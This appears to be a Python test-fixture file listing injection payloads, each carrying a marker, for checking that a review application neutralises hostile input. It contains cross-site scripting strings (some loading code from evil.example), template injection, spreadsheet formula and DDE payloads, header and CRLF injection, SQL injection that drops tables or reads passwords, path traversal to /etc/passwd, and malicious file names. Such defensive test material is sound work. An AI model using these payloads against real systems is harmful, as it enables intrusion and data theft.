"""What somebody may type into a field to make it act elsewhere. Each carries a mark of its own, `zq07`."""

from __future__ import annotations

from review.domain.text import problem

SCRIPTS = (
    "<script>window.acted='{m}'</script>", "<ScRiPt src=//evil.example/{m}.js></sCrIpT>", "<img src=x onerror=window.acted='{m}'>",
    "<svg/onload=window.acted='{m}'>", "\"><script>window.acted='{m}'</script>", "'><img src=x onerror=window.acted='{m}'>",
    "</textarea><script>window.acted='{m}'</script>", "</title><script>window.acted='{m}'</script>",
    "--><script>window.acted='{m}'</script><!--", "<iframe srcdoc=\"<script>parent.acted='{m}'</script>\"></iframe>",
    "<a href=\"javascript:window.acted='{m}'\">{m}</a>", "javascript:window.acted='{m}'", "<body onload=window.acted='{m}'>",
    "<details open ontoggle=window.acted='{m}'>", "<input autofocus onfocus=window.acted='{m}'>", "<math><mtext></mtext><script>{m}</script></math>",
    "<style>@import'//evil.example/{m}'</style>", "<link rel=stylesheet href=//evil.example/{m}>", "<base href=//evil.example/{m}>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/{m}\">", "<form action=//evil.example/{m}><button>{m}</button></form>",
    "<object data=\"data:text/html,{m}\"></object>", "&lt;script&gt;{m}&lt;/script&gt;", "&#60;script&#62;{m}", "<scr<script>ipt>{m}</script>",
    "\" onmouseover=\"window.acted='{m}'\" x=\"", "' autofocus onfocus='window.acted=1' x='{m}", "`${{window.acted='{m}'}}`", "＜script＞{m}＜/script＞",
    "<img src=`x`onerror=window.acted='{m}'>",
)  # fmt: skip
TEMPLATES = (
    "{{{{ settings.SECRET_KEY }}}}{m}", "{{% include 'x' %}}{m}", "${{{m}}}", "#{{7*7}}{m}", "%(name)s {m}", "{{0.__class__}} {m}", "#set page(width: 1pt) {m}",
    "#eval(\"1\") {m}", "#import \"/etc/passwd\" {m}", "$ x^2 $ {m} @ref <label>", "\\u003cscript\\u003e{m}",
)  # fmt: skip
FORMULAS = (
    "=1+1 {m}", "=HYPERLINK(\"http://evil.example/{m}\",\"x\")", "+cmd|'/C calc'!A0 {m}", "-2+3 {m}", "@SUM(1+1) {m}", "\t=1+1 {m}", "=cmd|' /C notepad'!'A1' {m}",
    "=WEBSERVICE(\"http://evil.example/{m}\")", "=IMPORTXML(\"http://evil.example/{m}\",\"//a\")", "'=1+1 {m}", "＝1+1 {m}", "=DDE(\"cmd\";\"/C calc\";\"{m}\")",
    "%0A=1+1 {m}", ";=1+1 {m}", "\n=1+1 {m}",
)  # fmt: skip
HEADERS = (
    "{m}\r\nBcc: victim@evil.example", "{m}\nSubject: forged", "{m}%0d%0aSet-Cookie: acted=1", "{m}\r\n\r\n<html>second body", "{m}\n.\nMAIL FROM:<evil@evil.example>",
    "{m}\ntime=2026-01-01T00:00:00.000+00:00 level=error logger=forged", "=?utf-8?B?PHNjcmlwdD4=?= {m}", "{m}\u2028level=error", "\x1b[31m{m}",
)  # fmt: skip
SQL = (
    "'; DROP TABLE review_user; -- {m}",
    "' OR '1'='1 {m}",
    "\\'; {m} --",
    "1) UNION SELECT password FROM review_user -- {m}",
)
PATHS = (
    "../../../etc/passwd {m}", "..\\..\\windows\\win.ini {m}", "/etc/passwd {m}", "file:///etc/passwd {m}", "%2e%2e%2f{m}", "....//....//{m}", "C:\\{m}", "{m}\u202excod.exe",
)  # fmt: skip

ALL = tuple(
    text.format(m=f"zq{number:02d}")
    for number, text in enumerate((*SCRIPTS, *TEMPLATES, *FORMULAS, *HEADERS, *SQL, *PATHS), start=10)
)
#: Kept nowhere: control characters and those that turn the writing round are refused at entry, with a sentence.
REFUSED = tuple(text for text in ALL if problem(text))
STORABLE = tuple(text for text in ALL if not problem(text))

FILE_NAMES = (
    "../../../../tmp/zq01.pdf", "..\\..\\zq02.pdf", "/etc/cron.d/zq03.pdf", "zq04.pdf\r\nSet-Cookie: acted=1", "zq05\";filename=\"evil.exe", "<script>zq06</script>.pdf",
    "zq07\u202efdp.exe", "=HYPERLINK(\"zq08\").pdf", "zq09.pdf\x00.exe", "CON", "....pdf", "\"><img src=x onerror=window.acted=1>.pdf", "zq10'; DROP TABLE review_evidence.pdf",
    "zq11%0d%0aX: y.pdf", "zq12" + "長" * 300 + ".pdf", "\ud800zq13.pdf",
)  # fmt: skip
